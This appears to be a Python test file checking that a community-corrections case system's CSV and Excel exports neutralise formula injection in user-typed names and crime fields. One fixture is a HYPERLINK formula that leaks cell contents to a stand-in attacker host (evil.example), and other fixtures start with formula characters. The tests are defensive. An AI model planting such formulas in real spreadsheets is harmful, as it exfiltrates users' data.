"""Exports (docs/security.md, "Exports"): text typed by users never runs as a formula in
the monthly workbook or the overdue CSV; numbers the system computes stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from corrections import exports
from corrections.people.idnumber import make_fictional
from corrections.reminders.jobs import run_job
from corrections.reports import workbook
from tests.helpers import open_case, user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
NAMES = (HYPERLINK, "-1+2", "@SUM(A1)", "+86 电话", "=1+1")  # names are stripped


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1", "'+1"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("张三", "张三"),
        ("a=1", "a=1"),
        ("", ""),
        (8, 8),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_values_starting_with_a_formula_character_get_a_quote(typed, written):
    assert exports.csv_value(typed) == written


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    cells = [exports.xlsx_cell(sheet, v) for v in (HYPERLINK, "-1+2", "张三", 7, 2.5)]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n", "n"]
    assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[2].quotePrefix


def _people(app, world) -> None:
    with app.app_context():
        for i, name in enumerate(NAMES):
            person = world.person(
                "boss", make_fictional("330106", date(1990, 2, i + 1), 200 + i), name=name,
                station="S1",
            )  # fmt: skip
            open_case(person, received_on="2026-11-10", crime="@SUM(A1)")  # overdue since 11-17


def test_given_people_named_like_formulas_when_the_overdue_csv_is_downloaded_then_names_are_text(
    app, client, world, county
):
    _people(app, world)
    with app.app_context():
        run_job("recompute_due", date(2026, 11, 25))
    world.login(client, "boss")
    response = client.get("/dashboard/overdue.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    body = rows[1:]
    assert sorted(r[0] for r in body) == sorted("'" + n for n in NAMES)
    for row in body:
        assert row[5] == "8"  # days overdue: a number, unquoted
        assert not row[0].startswith(exports.FORMULA_START)


def test_given_people_named_like_formulas_when_the_workbook_is_made_then_no_cell_is_a_formula(
    app, ctx, world, county
):
    _people(app, world)
    data = workbook.monthly_workbook(user("boss"), "2026-11")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(data))
    sheet = book["社区矫正台账"]
    header = [c.value for c in sheet[3]]
    name_col = header.index("姓名")
    crime_col = header.index("罪名")
    rows = [r for r in sheet.iter_rows(min_row=4) if r[name_col].value]
    assert sorted(r[name_col].value for r in rows) == sorted(NAMES)  # as typed, no quote
    for row in rows:
        assert row[name_col].data_type == "s" and row[crime_col].data_type == "s"
        assert row[crime_col].value == "@SUM(A1)"
        assert isinstance(row[header.index("序号")].value, int)  # computed numbers stay numbers
    formula_like = [r[name_col] for r in rows if r[name_col].value.startswith(("=", "-", "@"))]
    assert formula_like and all(c.quotePrefix for c in formula_like)
